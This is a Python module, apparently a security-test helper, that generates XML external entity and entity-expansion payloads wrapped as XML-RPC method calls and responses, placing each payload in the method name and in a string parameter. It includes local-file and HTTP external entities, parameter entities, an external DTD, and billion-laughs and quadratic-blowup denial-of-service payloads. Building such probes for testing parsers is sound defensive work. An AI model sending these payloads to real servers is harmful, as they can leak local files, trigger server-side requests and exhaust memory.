"""XXE and entity-expansion payloads shaped as XML-RPC requests and responses.

Each payload is built twice: with the entity in ``<methodName>`` (the echo
channel of servers that quote unknown method names) and in a string param.
"""
SECRET_MARK = "TOP-SECRET-MARK-7f3a"
INTERNAL_MARK = "INTERNAL-ENTITY-MARK"


def _call(dtd, ref, where):
    if where == "method":
        body = "<methodName>x-%s</methodName><params/>" % ref
    else:
        body = ("<methodName>samp.hub.ping</methodName><params><param><value><string>%s"
                "</string></value></param></params>" % ref)
    return ('<?xml version="1.0"?>\n%s\n<methodCall>%s</methodCall>' % (dtd, body)).encode()


def _response(dtd, ref):
    return ('<?xml version="1.0"?>\n%s\n<methodResponse><params><param><value><string>%s'
            '</string></value></param></params></methodResponse>' % (dtd, ref)).encode()


def _definitions(file_url, http_url):
    laughs = ['<!ENTITY lol0 "lol">'] + [
        '<!ENTITY lol%d "%s">' % (i, ("&lol%d;" % (i - 1)) * 10) for i in range(1, 10)]
    big = "A" * (64 * 1024)
    return {
        "internal_entity": ('<!DOCTYPE methodCall [<!ENTITY e "%s">]>' % INTERNAL_MARK, "&e;"),
        "xxe_file": ('<!DOCTYPE methodCall [<!ENTITY e SYSTEM "%s">]>' % file_url, "&e;"),
        "xxe_http": ('<!DOCTYPE methodCall [<!ENTITY e SYSTEM "%s">]>' % http_url, "&e;"),
        "parameter_entity": ('<!DOCTYPE methodCall [<!ENTITY %% p SYSTEM "%s"> %%p;]>'
                             % http_url, "&e;"),
        "parameter_entity_file": ('<!DOCTYPE methodCall [<!ENTITY %% p SYSTEM "%s"> %%p;]>'
                                  % file_url, "x"),
        "external_dtd": ('<!DOCTYPE methodCall SYSTEM "%s">' % http_url, "x"),
        "billion_laughs": ("<!DOCTYPE methodCall [%s]>" % "".join(laughs), "&lol9;"),
        "quadratic_blowup": ('<!DOCTYPE methodCall [<!ENTITY a "%s">]>' % big, "&a;" * 4000),
        "undeclared_entity": ("", "&nope;"),
    }


def request_payloads(file_url, http_url):
    """Return ``{name: bytes}`` of XML-RPC requests carrying each payload."""
    out = {}
    for name, (dtd, ref) in _definitions(file_url, http_url).items():
        out[name + "-in-method"] = _call(dtd, ref, "method")
        out[name + "-in-param"] = _call(dtd, ref, "param")
    return out


def response_payloads(file_url, http_url):
    """Return ``{name: bytes}`` of XML-RPC responses carrying each payload."""
    return {name: _response(dtd, ref)
            for name, (dtd, ref) in _definitions(file_url, http_url).items()}
